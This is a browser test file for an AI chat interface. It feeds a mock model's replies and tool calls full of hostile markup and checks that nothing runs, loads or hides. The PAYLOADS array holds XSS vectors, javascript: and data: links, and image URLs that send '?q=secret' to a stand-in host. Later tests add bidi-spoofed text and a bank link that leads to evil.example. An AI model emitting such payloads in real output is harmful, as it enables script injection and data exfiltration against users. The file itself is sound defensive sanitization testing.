/** Hostile text of models and tools: nothing of it runs, loads or hides (faults T11). */
import { describe, expect, test } from "vitest";
import { hasBrowser, openPage, say, startPageServer, withBrowser } from "./support.ts";

/** Told by whatever should never run. */
const RUN = "document.title='owned'";
const AWAY = "http://127.0.0.1:9/stolen";

const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}?q=secret">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><use href="${AWAY}#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${AWAY}">`,
  `<a href="javascript:${RUN}">click me</a>`,
  `[link](javascript:${RUN})`,
  `[link](  java\nscript:${RUN})`,
  `[link](&#106;avascript:${RUN})`,
  `[link](data:text/html,<script>${RUN}</script>)`,
  `[link](vbscript:${RUN})`,
  `![picture](${AWAY}?q=secret)`,
  `![picture](javascript:${RUN})`,
  `![picture](data:image/svg+xml,<svg onload=${RUN}>)`,
  `![by reference][r]\n\n[r]: ${AWAY}?q=secret`,
  `<style>*{display:none!important;background:url(${AWAY})}</style>`,
  `<link rel=stylesheet href="${AWAY}"><base href="http://127.0.0.1:9/"><meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action="${AWAY}"><button>send</button><input autofocus onfocus="${RUN}"></form>`,
  `<div id="main" class="frame" style="position:fixed;inset:0">over everything</div>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video src="${AWAY}" onerror="${RUN}" autoplay></video><audio src="${AWAY}"></audio>`,
  `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x contenteditable onblur="${RUN}" tabindex=1 autofocus>x</x>`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `| a | b |\n| - | - |\n| <img src=x onerror=${RUN}> | ![p](${AWAY}) |`,
  `<a name="attributes"><form><input name="parentNode"><input name="attributes"></form></a>`,
  `[x](https://example.com/"onmouseover="${RUN})`,
  `<${"b".repeat(5_000)}>`,
  `${"[".repeat(2_000)}`,
  `${"> ".repeat(400)}deep`,
];

describe.skipIf(!hasBrowser)("hostile text", () => {
  withBrowser();

  test("W6 T11 nothing that a model, a tool or a name says runs or is fetched", { timeout: 120_000 }, async () => {
    const text = PAYLOADS.join("\n\n");
    const evil = `<img src=x onerror="${RUN}"> ${AWAY}`;
    const server = await startPageServer((request) => {
      const { messages } = request.body as unknown as { messages: { role: string }[] };
      if (messages.at(-1)?.role !== "tool") {
        return {
          reasoning: [text],
          text: [text],
          calls: [
            { name: "grep", arguments: { pattern: evil, path: "." } },
            { name: evil.replace(/[^a-z]/g, "_").slice(0, 60), arguments: { [evil]: evil } },
          ],
        };
      }
      // And bit by bit: every state in between is drawn.
      return { text: PAYLOADS.flatMap((payload) => [...(payload.slice(0, 400).match(/[\s\S]{1,7}/g) ?? []), "\n\n"]) };
    });
    const { page, context, faults, requests } = await openPage(server);
    await say(page, `Hello ${PAYLOADS[1] ?? ""}`);
    await page.locator(".turn-foot").waitFor({ timeout: 60_000 });
    for (const summary of await page.locator("details > summary").all()) await summary.click();
    for (const view of ["/search?q=picture", "/runs", `/tree/${page.url().split("/").at(-1)}`]) {
      const other = await context.newPage();
      other.on("request", (request) => requests.push(request.url()));
      await other.goto(server.url + view);
      await other.locator("h1").first().waitFor();
      expect(await other.title()).not.toBe("owned");
      await other.close();
    }
    expect(await page.title()).not.toBe("owned");
    expect(requests.filter((address) => !address.startsWith(server.url) && !address.startsWith("data:"))).toEqual([]);
    const said = page.locator(".said");
    const found =
      "script, iframe, object, embed, form, style, link, base, meta, svg, math, video, audio, template, img, input, [style], [id]";
    expect(await said.locator(found).count()).toBe(0);
    const attributes = await page.evaluate(
      `[...document.querySelectorAll(".said *")].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith("on"))`,
    );
    expect(attributes).toEqual([]);
    const links = (await page.evaluate(
      `[...document.querySelectorAll(".said a")].map((a) => [a.protocol, a.rel, a.target])`,
    )) as string[][];
    expect(links.length).toBeGreaterThan(2);
    for (const [protocol, rel, target] of links) {
      expect(["http:", "https:", "mailto:"]).toContain(protocol);
      expect(rel).toContain("noopener");
      expect(target).toBe("_blank");
    }
    // The policy has stopped nothing, because nothing tried.
    expect(faults).toEqual([]);
  });

  test("W6 hidden and turning characters are shown, a link says where it leads", async () => {
    const text =
      "admin\u202etxt.exe zero\u200bwidth tag\u{e0041} bell\u0007 family 👨‍👩‍👧 heart ❤️\n\n[https://bank.example](https://evil.example/login)";
    const server = await startPageServer([{ text }]);
    const { page } = await openPage(server);
    await page.getByLabel("Message", { exact: true }).fill("Show it \u202eabc");
    await page.keyboard.press("Enter");
    await page.locator(".turn-foot").waitFor();
    const marks = await page.locator(".said .hidden-character").allTextContents();
    expect(marks).toEqual(["U+202E", "U+200B", "U+E0041", "U+0007"]);
    expect(await page.locator(".asked .hidden-character").allTextContents()).toEqual(["U+202E"]);
    expect(await page.locator(".said").textContent()).toContain("evil.example");
    expect(await page.locator(".said .link-host").textContent()).toContain("evil.example");
  });

  test("W6 a picture is an address until a person opens it", async () => {
    const server = await startPageServer([{ text: "![a cat](http://127.0.0.1:9/cat.png?q=secret)" }]);
    const { page, context, requests } = await openPage(server);
    await say(page, "A cat");
    const link = page.locator(".picture-link");
    await link.waitFor();
    expect(await link.textContent()).toContain("http://127.0.0.1:9/cat.png?q=secret");
    expect(requests.some((address) => address.includes(":9/"))).toBe(false);
    const opened = context.waitForEvent("page");
    await link.click();
    await opened;
    expect(page.url()).toContain(server.url);
  });
});
